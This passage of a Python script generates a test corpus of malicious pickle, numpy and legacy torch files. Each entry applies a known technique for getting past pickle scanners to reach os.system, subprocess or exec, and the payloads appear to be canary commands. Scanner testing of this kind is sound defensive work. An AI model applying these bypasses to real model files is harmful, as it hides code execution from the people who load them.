        ("d12_doctest_debug_script", 4, C(G("doctest", "debug_script"), CODE), "picklescan GHSA-fqq6-7vqf-w3fg (doctest.debug_script)", ["doctest", "pdb"]),
        ("d13_ensurepip_run_pip", 4, C(G("ensurepip", "_run_pip"), ["--version"]), "picklescan GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip)", ["ensurepip"]),
        ("d14_idlelib_calltip_get_entity", 4, C(G("idlelib.calltip", "get_entity"), CODE), "picklescan GHSA-9xph-j2h6-g47v (idlelib.calltip.get_entity)", ["idlelib.calltip"]),
        ("d15_lib2to3_grammar_loads", 4, C(G("lib2to3.pgen2.grammar", "Grammar.loads"), C(G("lib2to3.pgen2.grammar", "Grammar")), inner_pickle), "picklescan GHSA-f54q-57x4-jg88 (lib2to3 Grammar.loads)", ["lib2to3.pgen2.grammar"]),
        ("d16_lib2to3_pgen_make_label", 4, C(G("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), recon("lib2to3.pgen2.pgen", "ParserGenerator"), C(G("lib2to3.pgen2.grammar", "Grammar")), '"x"+str(%s)' % CODE), "picklescan GHSA-p9w7-82w4-7q8m (lib2to3 pgen make_label)", ["lib2to3.pgen2.pgen", "lib2to3.pgen2.grammar"]),
        ("d17_numpy_f2py_getlincoef", 4, C(G("numpy.f2py.crackfortran", "getlincoef"), CODE, {}), "picklescan GHSA-r8g5-cgf2-4m4m (numpy.f2py.crackfortran)", ["numpy.f2py.crackfortran"]),
        ("d18_numpy_testing_runstring", 2, C(G("numpy.testing._private.utils", "runstring"), CODE, {}), "picklescan unsafe globals (numpy.testing runstring)", ["numpy.testing._private.utils"]),
        ("d19_logging_FileHandler", 2, C(G("logging", "FileHandler"), CANARY), "picklescan logging.FileHandler test payload (file creation)", ["logging"]),
        ("d20_xxsubinterpreters_run_string", 4, C(G("_xxsubinterpreters", "run_string"), C(G("_xxsubinterpreters", "create")), CODE), "sub-interpreters (_xxsubinterpreters.run_string) per issue", ["_xxsubinterpreters"]),
        ("d21_importlib_metadata_EntryPoint_load", 4, C(C(getattr_(C(G("importlib.metadata", "EntryPoint"), "x", "os:system", "g"), "load")), CMD), "entry points (importlib.metadata.EntryPoint.load) per issue", ["importlib.metadata"]),
        ("d22_pkgutil_resolve_name", 4, C(C(G("pkgutil", "resolve_name"), "os:system"), CMD), "picklescan GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name)", ["pkgutil"]),
        ("d23_operator_methodcaller_pydoc_locate", 4, C(C(G("operator", "methodcaller"), "system", CMD), C(G("pydoc", "locate"), "os")), "picklescan GHSA-84r2-jw7c-4r5q (methodcaller + pydoc.locate)", ["pydoc", "operator"]),
        ("d24_asyncio_unix_subprocess_start", 4, C(G("asyncio.unix_events", "_UnixSubprocessTransport._start"), recon("asyncio.unix_events", "_UnixSubprocessTransport"), CMD, True, None, None, None, 0), "picklescan GHSA-q77w-mwjj-7mqx (asyncio _UnixSubprocessTransport._start)", ["asyncio.unix_events"]),
        ("d25_mailcap_findmatch", 2, C(G("mailcap", "findmatch"), {"text/plain": [{"view": "cat %s", "test": CMD}]}, "text/plain"), "modelscan PR #346 (mailcap.findmatch)", ["mailcap"]),
        ("d26_distutils_file_util_write_file", 2, C(G("distutils.file_util", "write_file"), CANARY, ["pickle-attack-corpus"]), "picklescan GHSA-m273-6v24-x4m4 (distutils.file_util.write_file)", ["distutils.file_util"]),
        ("d27_test_support_assert_python_ok", 4, C(G("test.support.script_helper", "assert_python_ok"), "-c", "pass"), "picklescan GHSA-g38g-8gr9-h9xp (test.support.script_helper)", ["test.support.script_helper"]),
        ("d28_pty_spawn", 2, C(G("pty", "spawn"), ["/bin/sh", "-c", CMD]), "picklescan GHSA-vqmv-47xg-9wpr (pty.spawn)", ["pty"]),
        ("d29_webbrowser_open", 0, C(G("webbrowser", "open"), LOCALHOST_URL), "picklescan unsafe globals (webbrowser)", ["webbrowser"]),
        ("d30_ssl_get_server_certificate", 2, C(G("ssl", "get_server_certificate"), ("127.0.0.1", 9)), "picklescan unsafe globals (ssl: DNS/network exfiltration)", ["ssl"]),
        ("d31_urllib_request_urlopen", 4, C(G("urllib.request", "urlopen"), LOCALHOST_URL), "picklescan unsafe globals (urllib.request)", ["urllib.request"]),
        ("d32_runpy_run_code", 2, C(G("runpy", "_run_code"), CODE, {}), "picklescan unsafe globals (runpy._run_code)", ["runpy"]),
        ("d33_profile_Profile_runctx", 4, C(G("profile", "Profile.runctx"), C(G("profile", "Profile")), CODE, {}, {}), "picklescan GHSA-6vqj-c2q5-j97w (profile.Profile.runctx)", ["profile"]),
        ("d34_pdb_run", 2, C(G("pdb", "run"), CODE), "fickling/picklescan unsafe imports (pdb)", ["pdb"]),
        ("d35_ctypes_CDLL", 2, C(G("ctypes", "CDLL"), "libc.so.6"), "picklescan GHSA-4675-36f9-wf6r (ctypes.CDLL)", ["ctypes"]),
        ("d36_functools_partial_system", 2, C(C(G("functools", "partial"), G("posix", "system"), CMD)), "functools.partial(posix.system, ...) then called", ["functools"]),
        ("d37_functools_reduce_exec", 4, C(G("functools", "reduce"), G("builtins", "exec"), [CODE, {}]), "functools.reduce(exec, [code, {}]) (fickling unsafe imports)", ["functools"]),
        ("d38_pip_main", 4, C(G("pip", "main"), ["download", "--no-index", "--no-deps", "--quiet", "-d", CANARY + "-pip", "pickle-attack-corpus-missing"]), "CVE-2025-1716 (pip.main)", ["pip"]),
        ("d39_cProfile_runctx", 0, C(G("cProfile", "runctx"), CODE, {}, {}), "picklescan GHSA-9w88-8rmg-7g2p (cProfile.runctx)", ["cProfile"]),
        ("d40_idlelib_autocomplete_get_entity", 4, C(G("idlelib.autocomplete", "AutoComplete.get_entity"), recon("idlelib.autocomplete", "AutoComplete"), CODE), "picklescan GHSA-6w4w-5w54-rjvr (idlelib.autocomplete)", ["idlelib.autocomplete"]),
        ("d41_smtplib_SMTP", 2, C(G("smtplib", "SMTP"), "127.0.0.1", 9), "network connect from a pickle (smtplib)", ["smtplib"]),
        ("d46_tkinter_Tcl_exec", 4, C(getattr_(C(G("tkinter", "Tcl")), "call"), "exec", "touch", "pickle-attack-corpus-canary"), "Tcl's exec through tkinter.Tcl().call (runs a process without a Python audit event)", ["tkinter"]),
        ("d47_sqlite3_connect_write", 2, C(getattr_(C(G("sqlite3", "connect"), CANARY + ".db"), "execute"), "create table t(x)"), "file creation through sqlite3.connect", ["sqlite3"]),
        ("d48_wave_open_write", 2, C(G("wave", "open"), CANARY + ".wav", "wb"), "file creation through wave.open(..., 'wb')", ["wave"]),
        ("d49_codecs_open_write", 4, C(G("codecs", "open"), CANARY, "w"), "file creation through codecs.open(..., 'w')", ["codecs"]),
        ("d56_pathlib_Path_write_text", 4, C(G("pathlib", "Path.write_text"), C(G("pathlib", "Path"), CANARY), "pickle-attack-corpus"), "pathlib.Path.write_text (unbound method via dotted name)", ["pathlib"]),
        ("d57_logging_handlers_RotatingFileHandler", 2, C(G("logging.handlers", "RotatingFileHandler"), CANARY), "logging handler that opens files (logging.handlers)", ["logging.handlers"]),
        ("d58_mailbox_Maildir_create", 2, C(G("mailbox", "Maildir"), CANARY + "-maildir", None, True), "directory creation through mailbox.Maildir(create=True)", ["mailbox"]),
        ("d42_shutil_rmtree_canary", 2, C(G("shutil", "rmtree"), CANARY + "-dir"), "shutil file operations (picklescan shutil)", ["shutil"]),
    ]
    torch_gadgets = [
        ("d50_torch_bottleneck_run_cprofile", 4, C(G("torch.utils.bottleneck.__main__", "run_cprofile"), CODE, {}), "picklescan GHSA-4r9r-ch6f-vxmx (torch.utils.bottleneck entry point)", ["torch.utils.bottleneck.__main__"]),
        ("d51_torch_bottleneck_run_autograd_prof", 4, C(G("torch.utils.bottleneck.__main__", "run_autograd_prof"), CODE, {}), "picklescan GHSA-4whj-rm5r-c2v8", ["torch.utils.bottleneck.__main__"]),
        ("d52_torch_inductor_compile_file", 4, C(G("torch._inductor.codecache", "compile_file"), [], "", ["sh", "-c", CMD]), "JFrog CVE-2025-10155..7 era picklescan advisories (torch._inductor.codecache.compile_file)", ["torch._inductor.codecache"]),
        ("d53_torch_collect_env_run", 4, C(G("torch.utils.collect_env", "run"), CMD), "picklescan GHSA-f745-w6jp-hpxx (torch.utils.collect_env.run)", ["torch.utils.collect_env"]),
        ("d54_torch_jit_execWrapper", 4, C(G("torch.jit.unsupported_tensor_ops", "execWrapper"), CODE, {}, {}), "picklescan GHSA-vr7h-p6mm-wpmh (execWrapper)", ["torch.jit.unsupported_tensor_ops"]),
        ("d55_torch_datapipes_basichandlers", 4, C(G("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", inner_pickle), "picklescan GHSA-h3qp-7fh3-f8h4 (datapipes decoder basichandlers)", ["torch.utils.data.datapipes.utils.decoder"]),
    ]
    py313 = {"d01_aix_support_read_cmd_output", "d44_pyrepl_pager_pipe_pager", "d45_pyrepl_pager_tempfile_pager"}
    gadgets += [
        ("d44_pyrepl_pager_pipe_pager", 4, C(G("_pyrepl.pager", "pipe_pager"), "text", CMD), "picklescan GHSA-g38g-8gr9-h9xp (_pyrepl.pager, CPython >= 3.13)", ["_pyrepl.pager"]),
        ("d45_pyrepl_pager_tempfile_pager", 4, C(G("_pyrepl.pager", "tempfile_pager"), "text", CMD), "picklescan GHSA-g38g-8gr9-h9xp (_pyrepl.pager, CPython >= 3.13)", ["_pyrepl.pager"]),
    ]
    for name, proto, expr, src, mods in gadgets:
        c.add(name + ".pkl", pkl(expr, proto, frame=proto >= 4), D, f"REDUCE of {name[4:]} at protocol {proto}", src, L, modules=mods,
              python_hint="py313" if name in py313 else None, note="CPython >= 3.13" if name in py313 else None)
    for name, proto, expr, src, mods in torch_gadgets:
        c.add(name + ".pkl", pkl(expr, proto, frame=True), D, f"REDUCE of {name[4:]} at protocol {proto}", src, L, modules=mods, needs=["torch"])
    # copyreg extension registry: register os.system under a code, then EXT1
    ext = b"\x80\x02" + enc(C(G("copyreg", "add_extension"), "os", "system", 0xF1), 2) + b"0\x82\xf1" + enc((CMD,), 2) + b"R."
    c.add("d43_copyreg_add_extension_EXT1.pkl", ext, D, "copyreg.add_extension('os','system',241), then EXT1 241 resolves os.system", "copyreg extension registry (issue)", L, modules=["copyreg"])

    # ---------------- (e) dotted names / getattr chains ---------------------
    E = "e_dotted"
    c.add("e01_pathlib_os_system_stack_global.pkl", pkl(C(G("pathlib", "os.system"), CMD), 4, frame=True), E,
          "STACK_GLOBAL 'pathlib' + 'os.system' at protocol 4 (dotted attribute path reaches os)", "picklescan dotted-name bypasses / issue", L, modules=["pathlib"])
    c.add("e02_pathlib_os_system_GLOBAL_proto4.pkl", pkl(C(G("pathlib", "os.system", opcode="GLOBAL"), CMD), 4), E,
          "GLOBAL 'pathlib\\nos.system' in a protocol-4 stream", "dotted names", L, modules=["pathlib"])
    c.add("e03_posixpath_os_popen.pkl", pkl(C(G("posixpath", "os.popen"), CMD), 4, frame=True), E, "posixpath + 'os.popen'", "dotted names", L, modules=["posixpath"])
    c.add("e04_inspect_os_system.pkl", pkl(C(G("inspect", "os.system"), CMD), 5, frame=True), E, "inspect + 'os.system' at protocol 5", "dotted names", L, modules=["inspect"])
    c.add("e05_logging_os_system.pkl", pkl(C(G("logging", "os.system"), CMD), 4), E, "logging + 'os.system'", "dotted names", L, modules=["logging"])
    c.add("e06_getattr_pathlib_os_system.pkl", pkl(C(getattr_(G("pathlib", "os"), "system"), CMD), 2), E,
          "GLOBAL pathlib.os (a module) then builtins.getattr(_, 'system')", "getattr chains (picklescan issue #66)", L, modules=["pathlib"])
    c.add("e07_getattr_joined_name.pkl", pkl(C(getattr_(G("pathlib", "os"), C(getattr_("", "join"), ["sys", "tem"])), CMD), 2), E,
          "getattr(pathlib.os, ''.join(['sys','tem'])) - the name is computed at load time", "modelscan issue #331 (str.join names)", L, modules=["pathlib"])
    c.add("e08_attrgetter_pathlib_os.pkl", pkl(C(C(C(G("operator", "attrgetter"), "system"), G("pathlib", "os")), CMD), 4), E,
          "operator.attrgetter('system')(pathlib.os)", "picklescan GHSA-46h3-79wf-xr6c (attrgetter)", L, modules=["pathlib", "operator"])
    # modelscan #330: numpy.size(numpy.size, 'eval') after BUILD sets numpy.size.shape = numpy.__builtins__
    m330 = (b"\x80\x04\x8c\x05numpy\x8c\x04size\x93\x94" + b"\x8c\x05numpy\x8c\x0c__builtins__\x93\x940"
            + b"h\x00}}\x8c\x05shapeh\x01s\x86b0" + b"h\x00h\x00\x8c\x04eval\x86R" + enc((CODE,), 4) + b"R.")
    c.add("e09_numpy_size_builtins_eval.pkl", m330, E,
          "numpy.size gets attribute shape = numpy.__builtins__ by BUILD; numpy.size(numpy.size, 'eval') returns eval", "modelscan issue #330", L, modules=["numpy"],
          python_hint="numpy<2.4", note="numpy >= 2.4 rewrote numpy.size; the gadget runs with numpy < 2.4")
    c.add("e10_collections_sys_modules.pkl",
          pkl(C(getattr_(C(getattr_(getattr_(G("collections", "_sys"), "modules"), "get"), "os"), "system"), CMD), 2), E,
          "collections._sys.modules.get('os').system via getattr", "getattr chains", L, modules=["collections"])
    c.add("e11_importlib_import_module_getattr.pkl", pkl(C(getattr_(C(G("importlib", "import_module"), "os"), "system"), CMD), 4, frame=True), E,
          "importlib.import_module('os') then getattr", "modelscan issue #331 / picklescan PR #74", L, modules=["importlib"])
    c.add("e12_builtins_import_getattr.pkl", pkl(C(getattr_(C(G("builtins", "__import__"), "os"), "system"), CMD), 0), E,
          "builtins.__import__('os') then getattr at protocol 0", "picklescan GHSA-955r-x9j8-7rhh", L)
    c.add("e13_proto_switch_dotted_GLOBAL.pkl", b"\x80\x02" + b"(\x80\x04" + enc(C(G("pathlib", "os.system", opcode="GLOBAL"), CMD), 2) + b"t.", E,
          "protocol 2 header, then a second PROTO 4 mid-stream enables a dotted GLOBAL", "PROTO opcode semantics (CPython re-reads it)", L, modules=["pathlib"])
    c.add("e14_genericpath_os_system.pkl", pkl(C(G("genericpath", "os.system"), CMD), 4), E,
          "genericpath + 'os.system'", "dotted names", L, modules=["genericpath"])

    glob_os = C(getattr_(getattr_(G("pathlib", "Path.home"), "__globals__"), "get"), "os")
    c.add("e15_function_globals_os.pkl", pkl(C(getattr_(glob_os, "system"), CMD), 4), E,
          "getattr(pathlib.Path.home, '__globals__').get('os').system: a function's module globals", "getattr chains (__globals__)", L, modules=["pathlib"])
    c.add("e16_list_map_over_globals.pkl", pkl(C(G("builtins", "list"), C(G("builtins", "map"), getattr_(glob_os, "system"), [CMD])), 4), E,
          "list(map(<os.system from __globals__>, [cmd])): the call happens inside list()", "getattr chains / indirect calls", L, modules=["pathlib"])

    c.add("e17_builtins_module_dict.pkl", pkl(C(C(getattr_(G("builtins", "__dict__"), "get"), "exec"), CODE), 4), E,
          "builtins.__dict__.get('exec')", "getattr chains (module __dict__)", L)
    c.add("e18_json_module_builtins.pkl", pkl(C(C(getattr_(G("json", "__builtins__"), "get"), "exec"), CODE), 4), E,
          "json.__builtins__ (every module's builtins dict) .get('exec')", "modelscan issue #330 (module __builtins__)", L, modules=["json"])
    osmod = C(getattr_(getattr_(G("collections", "_sys"), "modules"), "get"), "os")
    alias = C(getattr_(getattr_(G("collections", "_sys"), "modules"), "__setitem__"), "numpy.safe", osmod)
    c.add("e19_sys_modules_alias_posix_spawn.pkl", b"\x80\x04" + enc(alias, 4) + b"0" + enc(C(G("numpy.safe", "posix_spawn"), "/bin/echo", ["echo", "pickle-attack-corpus"], {}), 4) + b".", E,
          "sys.modules['numpy.safe'] = os (reached through collections._sys), then GLOBAL numpy.safe.posix_spawn", "picklescan sys_module_override test", L, modules=["collections", "numpy"])
    c.add("e20_pandas_core_generic_pickle_loads.pkl", pkl(C(G("pandas.core.generic", "pickle.loads"), inner_pickle), 4, frame=True), E,
          "pandas.core.generic + 'pickle.loads' (a dotted path out of an allowed data package)", "dotted names", L, modules=["pandas.core.generic"])
    c.add("e21_sklearn_base_platform_os.pkl", pkl(C(G("sklearn.base", "platform.os.system"), CMD), 4, frame=True), E,
          "sklearn.base + 'platform.os.system'", "dotted names", L, modules=["sklearn.base"])
    c.add("e22_INST_dotted_proto4.pkl", b"\x80\x04(V" + CMD.encode() + b"\nipathlib\nos.system\n.", E,
          "INST 'pathlib' 'os.system' in a protocol-4 stream", "dotted names (INST)", L, modules=["pathlib"])

    # ---------------- (f) numpy containers ----------------------------------
    F = "f_numpy"
    L = "numpy.load allow_pickle"
    obj = pkl(C(G("posix", "system"), CMD), 3)
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    c.add("f01_object_npy_v1.npy", npy(hdr, obj), F, ".npy v1 object array: the data is a pickle np.load(allow_pickle=True) runs", "picklescan object_array.npy / issue", L, modules=["numpy"])
    c.add("f02_object_npy_v2.npy", npy(hdr, obj, 2), F, ".npy v2 header (4-byte header length)", "numpy format v2", L, modules=["numpy"])
    c.add("f03_object_npy_v3.npy", npy(hdr, obj, 3), F, ".npy v3 header (utf-8)", "numpy format v3", L, modules=["numpy"])
    c.add("f04_structured_object_field.npy", npy("{'descr': [('a', '|O'), ('b', '<i4')], 'fortran_order': False, 'shape': (1,), }", obj), F,
          "structured descr with an object field: hasobject, so numpy unpickles the data", "numpy format", L, modules=["numpy"])
    c.add("f05_object_descr_O_no_pipe.npy", npy("{'descr': 'O', 'fortran_order': True, 'shape': (1, 1), }", pkl(C(G("os", "system"), CMD), 4, frame=True)), F,
          "descr 'O' without byte-order char, Fortran order, protocol 4 pickle", "numpy format", L, modules=["numpy"])
    npyf = npy(hdr, obj)
    c.add("f06_npz_stored.npz", build_zip([dict(name="weights.npy", data=npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }", b"\x00" * 16)), dict(name="arr_0.npy", data=npyf)]), F,
          ".npz (stored) with an object .npy member beside a numeric one", "picklescan .npz handling", L, modules=["numpy"])
    c.add("f07_npz_deflated.npz", build_zip([dict(name="arr_0.npy", data=npyf, method=8)]), F, ".npz with a deflated object member (np.savez_compressed layout)", "picklescan int_arrays_compressed.npz", L, modules=["numpy"])
    c.add("f08_npz_member_without_npy_suffix.npz", build_zip([dict(name="data", data=npyf)]), F, ".npz member named 'data' (no .npy suffix): NpzFile still parses it as .npy by magic", "numpy NpzFile", L, modules=["numpy"])
    c.add("f10_npz_upper_NPY_suffix.npz", build_zip([dict(name="arr_0.NPY", data=npyf)]), F, ".npz member 'arr_0.NPY' (upper-case suffix)", "numpy NpzFile / case of names", L, modules=["numpy"])
    c.add("f11_object_npy_zero_size.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (0,), }", obj), F,
          "object .npy of shape (0,): numpy still unpickles the data", "numpy format read_array", L, modules=["numpy"])
    c.add("f12_v3_unicode_field_object.npy", npy("{'descr': [('\u00e4', '|O')], 'fortran_order': False, 'shape': (1,), }", obj, 3), F,
          ".npy v3 (utf-8 header) with a non-ASCII object field name", "numpy format v3", L, modules=["numpy"])
    c.add("f13_descr_O8.npy", npy("{'descr': '|O8', 'fortran_order': False, 'shape': (1,), }", obj), F, "descr '|O8'", "numpy format", L, modules=["numpy"])
    c.add("f14_nested_struct_object.npy", npy("{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }", obj), F,
          "nested structured descr with an object field", "numpy format", L, modules=["numpy"])
    c.add("f15_npz_duplicate_member.npz", build_zip([dict(name="arr_0.npy", data=npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }", b"\x00" * 16)), dict(name="arr_0.npy", data=npyf)]), F,
          ".npz with two members named arr_0.npy: numpy (zipfile) reads the last", "zip duplicate names", L, modules=["numpy"])
    c.add("f09_object_npy_pickle_v0.npy", npy(hdr, pkl(C(G("posix", "system"), CMD), 0)), F, ".npy whose object data is a protocol 0 pickle", "numpy format", L, modules=["numpy"])

    # ---------------- (g) torch legacy formats ------------------------------
    Gg = "g_torch_legacy"
    L = "torch.load"
    c.add("g01_legacy_payload_in_object.pt", legacy_torch(obj=pkl({"w": system()}, 2)), Gg, "legacy (torch < 1.6) stream: payload in the 4th pickle (the object)", "torch _legacy_load", L)
    c.add("g02_legacy_payload_in_magic.pt", legacy_torch(magic=b"\x80\x02" + enc(system(), 2) + b"0" + enc(TORCH_MAGIC, 2) + b"."), Gg,
          "payload inside the first pickle, which then still yields the magic number", "torch _legacy_load (magic pickle loaded with pickle_module.load)", L)
    c.add("g03_legacy_payload_in_sys_info.pt", legacy_torch(sys_info=pkl(dict(SYS_INFO, x=system()), 2)), Gg, "payload in the sys_info pickle (3rd)", "torch _legacy_load", L)
    c.add("g04_legacy_payload_in_storage_keys.pt", legacy_torch(keys=b"\x80\x02" + enc(system(), 2) + b"0].") , Gg, "payload in the storage-keys pickle (5th)", "torch _legacy_load", L)
    tar_ok = lambda **kw: tar_bytes([
        ("sys_info", kw.get("sys_info", pkl(SYS_INFO, 2))),
        ("pickle", kw.get("pickle", pkl({"w": 1}, 2))),
        ("storages", kw.get("storages", pkl(0, 2) + pkl([], 2))),
        ("tensors", kw.get("tensors", pkl(0, 2))),
    ])
    c.add("g05_tar_payload_in_pickle.pt", tar_ok(pickle=pkl({"w": system()}, 2)), Gg, "pre-0.4 tar format: payload in member 'pickle'", "torch legacy_load (tar)", L)
    c.add("g06_tar_payload_in_storages.pt", tar_ok(storages=b"\x80\x02" + enc(system(), 2) + b"0K\x00." + pkl([], 2)), Gg, "pre-0.4 tar: payload in member 'storages' (its count pickle)", "torch legacy_load (tar)", L)
    c.add("g07_tar_payload_in_tensors.pt", tar_ok(tensors=b"\x80\x02" + enc(system(), 2) + b"0K\x00."), Gg, "pre-0.4 tar: payload in member 'tensors'", "torch legacy_load (tar)", L)
    c.add("g09_tar_duplicate_pickle_member.pt", tar_bytes([("sys_info", pkl(SYS_INFO, 2)), ("pickle", benign), ("storages", pkl(0, 2) + pkl([], 2)),
                                                           ("tensors", pkl(0, 2)), ("pickle", pkl({"w": system()}, 2))]), Gg,
          "pre-0.4 tar with two members named 'pickle': tarfile.extractfile returns the last (malicious)", "torch legacy_load (tar member lookup)", L)
    c.add("g08_legacy_broken_after_payload.pt", legacy_torch(obj=pkl({"w": system()}, 2)[:-2] + b"\xff"), Gg, "legacy stream whose object pickle breaks right after the payload (nullifAI)", "ReversingLabs nullifAI", L)

    # ---------------- (h) parser-level tricks -------------------------------
    H = "h_parser"
    L = "pickle.load"
    c.add("h01_memo_underscore_1_0.pkl", b"Vposix\np1_0\n0Vsystem\np2_0\n0g1_0\ng2_0\n\x93(V" + CMD.encode() + b"\ntR.", H,
          "protocol 0 PUT/GET with index '1_0' (int() accepts the underscore); names reach STACK_GLOBAL only via the memo", "issue (memo index 1_0)", L)
    c.add("h02_memo_plus_space_zero.pkl", b"Vos\np +7\n0Vsystem\np008\n0g7\ng 8 \n\x93(V" + CMD.encode() + b"\ntR.", H,
          "memo indices written ' +7', '007', ' 7 ' (int() accepts sign, leading zeros, spaces)", "CPython load_put uses PyLong_FromString", L)
    body = b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94" + enc((CMD,), 4) + b"R."
    cut = 5  # frame ends in the middle of SHORT_BINUNICODE 'posix'
    c.add("h03_frame_straddle.pkl", b"\x80\x04\x95" + struct.pack("<Q", cut) + body, H,
          "FRAME of 5 bytes ends inside an opcode; CPython's C unpickler does not enforce frame boundaries", "issue (frames)", L)
    body2 = b"\x8c\x02os\x94\x8c\x06system\x94\x93" + enc((CMD,), 4) + b"R."
    # frame 1 ends inside 'system'; the straddling opcode's tail follows, then
    # an unaligned second FRAME opcode between two opcodes
    k = body2.index(b"\x93")
    h04 = (b"\x80\x04\x95" + struct.pack("<Q", 8) + body2[:k + 1]
           + b"\x95" + struct.pack("<Q", len(body2) - k - 1) + body2[k + 1:])
    c.add("h04_frame_cut_then_second_frame.pkl", h04, H,
          "first FRAME (8 bytes) ends inside SHORT_BINUNICODE 'system'; after the straddling opcode a second FRAME holds the call", "issue (frames)", L)
    c.add("h05_nullifai_invalid_opcode.pkl", P2[:-1] + b"\xff\xfe", H, "payload, then an invalid opcode instead of STOP (nullifAI)", "ReversingLabs nullifAI", L)
    c.add("h06_nullifai_truncated.pkl", P2[:-1], H, "payload, then end of file with no STOP", "ReversingLabs nullifAI", L)
    c.add("h07_second_pickle_in_stream.pkl", benign + P2, H, "a benign pickle followed by a malicious one (loader reads until EOF)", "picklescan multiple pickles per file", "pickle.load-all")
    memo = (b"\x80\x04" + b"\x8c\x0ctorch._utils\x94\x8c\x12_rebuild_tensor_v2\x94"
            + b"\x8c\x05posixq\x00\x8c\x06systemq\x01h\x00h\x01\x93" + enc((CMD,), 4) + b"R.")
    c.add("h08_memo_confusion_memoize_vs_binput.pkl", memo, H,
          "MEMOIZE puts torch._utils/_rebuild_tensor_v2 at 0/1, BINPUT then overwrites 0/1 with posix/system", "picklescan issue #14 (memo confusion)", L)
    c.add("h09_keyerror_after_payload.pkl", P2[:-1] + b"0h\x63h\x64\x93.", H, "payload, then STACK_GLOBAL from memo keys that do not exist", "picklescan keyerror-exploit test", L)
    c.add("h10_INST_subprocess.pkl", b"((V/bin/sh\nV-c\nV" + CMD.encode() + b"\nlisubprocess\ncheck_call\n.", H, "INST opcode calling subprocess.check_call([...])", "fickling INST handling", L)
    c.add("h11_OBJ_popen.pkl", b"\x80\x02(csubprocess\nPopen\n" + enc(CMD, 2) + b"o.", H, "OBJ opcode: subprocess.Popen(cmd)", "fickling OBJ handling", L)
    c.add("h12_INST_os_system_function.pkl", b"(V" + CMD.encode() + b"\nios\nsystem\n.", H, "INST with a function, not a class: _instantiate calls os.system(cmd)", "pickle INST semantics", L)
    c.add("h13_proto5_out_of_band_tail.pkl", b"\x80\x05" + enc(system(), 5) + b"\x97\x98.", H, "protocol 5: payload, then NEXT_BUFFER/READONLY_BUFFER with no buffers (load fails after the call)", "issue (PROTO 5)", L)
    c.add("h14_unicode_escape_names.pkl", b"c\x6fs\nsy\x73tem\n(V\\u0065cho pickle-attack-corpus\ntR.", H, "protocol 0 with unicode escapes in the argument", "protocol 0 parsing", L)

    c.add("h15_STRING_names_stack_global.pkl", b"\x80\x04S'posix'\nS'system'\n\x93" + enc((CMD,), 4) + b"R.", H,
          "STACK_GLOBAL fed by protocol-0 STRING opcodes", "modelscan PR #313 (STACK_GLOBAL with STRING/BINSTRING)", L)
    c.add("h16_SHORT_BINSTRING_names_stack_global.pkl", b"\x80\x04U\x05posixU\x06system\x93" + enc((CMD,), 4) + b"R.", H,
          "STACK_GLOBAL fed by SHORT_BINSTRING opcodes", "modelscan PR #313", L)
    c.add("h17_computed_names_stack_global.pkl", b"\x80\x04" + enc(C(getattr_("po", "__add__"), "six"), 4) + enc(C(getattr_("sys", "__add__"), "tem"), 4) + b"\x93" + enc((CMD,), 4) + b"R.", H,
          "STACK_GLOBAL whose names are computed at load time ('po'+'six', 'sys'+'tem')", "picklescan 'unknown' STACK_GLOBAL handling", L)
    c.add("h18_py2_copy_reg_extension.pkl", b"\x80\x02" + enc(C(G("copy_reg", "add_extension"), "posix", "system", 0xF2), 2) + b"0\x82\xf2" + enc((CMD,), 2) + b"R.", H,
          "Python 2 name copy_reg (mapped to copyreg below protocol 3) registers posix.system as extension 242", "_compat_pickle IMPORT_MAPPING", L)
    c.add("h19_py2_Tkinter_Tcl_exec.pkl", pkl(C(getattr_(C(G("Tkinter", "Tcl")), "call"), "exec", "touch", "pickle-attack-corpus-canary"), 2), H,
          "Python 2 name Tkinter (mapped to tkinter) then Tcl exec", "_compat_pickle IMPORT_MAPPING", L, modules=["tkinter"])
    c.add("h20_py2_dumbdbm_open.pkl", pkl(C(G("dumbdbm", "open"), CANARY + "-db", "c"), 2), H,
          "Python 2 name dumbdbm (mapped to dbm.dumb) creates files", "_compat_pickle IMPORT_MAPPING", L, modules=["dbm.dumb"])
    c.add("h21_py2_builtin_eval.pkl", pkl(C(G("__builtin__", "eval"), CODE), 1), H,
          "__builtin__.eval at protocol 1 (Python 2 name)", "_compat_pickle NAME_MAPPING", L)

    g_os = C(getattr_(getattr_(G("pathlib", "Path.home"), "__globals__"), "get"), "os")
    part = Build(C(G("functools", "partial"), G("builtins", "print"), "x"), (getattr_(g_os, "system"), (CMD,), {}, None))
    c.add("h23_partial_build_swaps_func.pkl", pkl(C(part), 4), H,
          "functools.partial(print) whose BUILD state swaps in os.system (from a __globals__ chain), then called", "functools.partial __setstate__", L, modules=["pathlib", "functools"])
    c.add("h24_call_hidden_by_pop_mark.pkl", b"\x80\x04(" + enc(C(getattr_(g_os, "system"), CMD), 4) + b"1N.", H,
          "the call sits between MARK and POP_MARK: its result is discarded, the call still happens", "pickle POP_MARK semantics", L, modules=["pathlib"])

    # ---------------- (i) nested loaders ------------------------------------
    I = "i_nested"
    L = "pickle.load"
    c.add("i01_pickle_loads_bytes.pkl", pkl(C(G("pickle", "loads"), inner_pickle), 4, frame=True), I, "pickle.loads of embedded bytes", "fickling/picklescan nested pickles", L, modules=["pickle"])
    c.add("i02__pickle_loads.pkl", pkl(C(G("_pickle", "loads"), inner_pickle), 3), I, "_pickle.loads of embedded bytes", "picklescan _pickle", L, modules=["_pickle"])
    c.add("i03_pickle_private_loads.pkl", pkl(C(G("pickle", "_loads"), inner_pickle), 2), I, "pickle._loads (pure-Python unpickler)", "nested pickles", L, modules=["pickle"])
    c.add("i04_bytes_fromhex_then_loads.pkl", pkl(C(G("pickle", "loads"), C(getattr_(G("builtins", "bytes"), "fromhex"), inner_pickle.hex())), 2), I,
          "pickle.loads(bytes.fromhex('...')): the inner pickle is hex text", "nested pickles", L, modules=["pickle"])
    partial_kw = lambda fn, **kw: Build(C(G("functools", "partial"), fn), (fn, (), kw, None))
